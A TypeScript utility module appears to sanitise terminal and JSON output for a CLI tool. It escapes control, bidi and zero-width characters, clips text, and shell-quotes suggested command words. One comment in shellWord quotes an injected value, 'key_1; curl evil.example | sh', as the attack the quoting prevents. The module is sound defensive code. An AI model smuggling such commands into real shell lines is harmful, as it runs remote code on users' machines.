/**
 * What a string may carry before a person sees it (docs/contract.md §C3).
 * Plain functions with no imports, so anything may use them without
 * loading the renderer.
 */

export type Tone = 'bold' | 'dim' | 'green' | 'yellow' | 'red' | 'cyan';
export type Segment = string | { text: string; tone: Tone };
/** One line of output: a string or segments; never contains svc's own newline. */
export type Line = Segment | readonly Segment[];

export function tone(text: string, tone: Tone): Segment {
  return { text, tone };
}

/**
 * C0 (tab, LF and CR included), DEL and C1 controls (Cc); every character
 * Unicode says to draw as nothing (Default_Ignorable_Code_Point: the bidi
 * controls, zero-width spaces and joiners, the soft hyphen, Hangul fillers,
 * variation selectors, tag characters, …) and every other format character
 * (Cf), so that `prod` and `prod` with a zero-width space never look alike;
 * the line and paragraph separators; and surrogates without their other
 * half (with the `u` flag a lone surrogate is a code point of its own, Cs).
 * An emoji joined by U+200D or chosen by U+FE0F is shown with its escape
 * too: whether it draws as one picture depends on the terminal's font.
 */
const UNSAFE = /[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}\p{Cs}\u2028\u2029]/gu;

const NAMED: Record<string, string> = { '\t': '\\t', '\n': '\\n', '\r': '\\r' };

function escape(char: string): string {
  const named = NAMED[char];
  if (named !== undefined) return named;
  const code = char.codePointAt(0)!;
  if (code <= 0xff) return `\\x${code.toString(16).padStart(2, '0')}`;
  return code <= 0xffff ? `\\u${code.toString(16).padStart(4, '0')}` : `\\u{${code.toString(16)}}`;
}

/** Every control (C0 with tab, CR and LF, DEL, C1), every default-ignorable or format character (bidi controls, U+200B–U+200D, U+2060–U+2064, U+FEFF, U+00AD, U+034F, U+115F, U+1160, U+3164, U+FFA0, U+180E, variation selectors, tag characters, …), U+2028/U+2029, and lone surrogates shown as visible escapes (\x1b, \t, \n, \u202e, \u200b, \u{e0041}, …); a backslash is left as is, so that sanitising twice changes nothing. Nothing it returns can move the cursor, reorder text, start a new line, or hide a character. */
export function sanitize(text: string): string {
  return text.replace(UNSAFE, escape);
}

/**
 * Cut to `max` code points with … (after sanitising, so an escape is never
 * cut in half). The count is of what is shown: an escape is as many code
 * points as its characters, and it stays whole or goes whole.
 */
export function clip(text: string, max: number): string {
  const shown = sanitize(text);
  // Code units are never fewer than code points.
  if (shown.length <= max || codePoints(shown, max + 1) <= max) return shown;
  if (max < 1) return '';
  let out = '';
  let used = 0;
  for (const char of text) {
    const piece = sanitize(char);
    // An escape is ASCII, one code point a character; anything else left as is is one code point.
    const size = piece === char ? 1 : piece.length;
    if (used + size > max - 1) break;
    out += piece;
    used += size;
  }
  return `${out}…`;
}

/** The number of code points in `text`, counting no further than `limit`. */
function codePoints(text: string, limit: number): number {
  let count = 0;
  for (const _ of text) if (++count >= limit) break;
  return count;
}

/**
 * `text` as one word of a POSIX shell command svc suggests, cut to 200
 * characters like other server text: quoted unless it is plainly one word,
 * so that a server's id or name cannot add a command of its own
 * (`key_1; curl evil.example | sh`) to a line a person copies.
 */
export function shellWord(text: string): string {
  const flat = clip(text, 200);
  return /^[\w.@%+=:,/-]+$/.test(flat) ? flat : `'${flat.replace(/'/g, "'\\''")}'`;
}

/**
 * Outside strings, JSON.stringify writes only ASCII, and it already escapes
 * C0 controls and lone surrogates; what remains raw can only sit inside a
 * string, where \uXXXX means the same character (a pair of them for one
 * past U+FFFF). Invisible characters are escaped as on a terminal: a name
 * read from the document in a terminal or an editor shows them.
 */
const RAW_IN_JSON = /[\x7f-\x9f\p{Cf}\p{Default_Ignorable_Code_Point}\u2028\u2029]/gu;

/** JSON.stringify(value, null, indent) with DEL, C1 controls, default-ignorable and format characters (bidi controls, zero-width ones, …) and U+2028/2029 also written as \uXXXX: still valid JSON that parses to the same value. */
export function jsonDocument(value: unknown, indent = 2): string {
  // JSON.stringify gives undefined for undefined, a function or a symbol; a document must say something.
  const text = JSON.stringify(value, null, indent) ?? 'null';
  return text.replace(RAW_IN_JSON, (char) => char.replace(/[^]/g, (unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`));
}
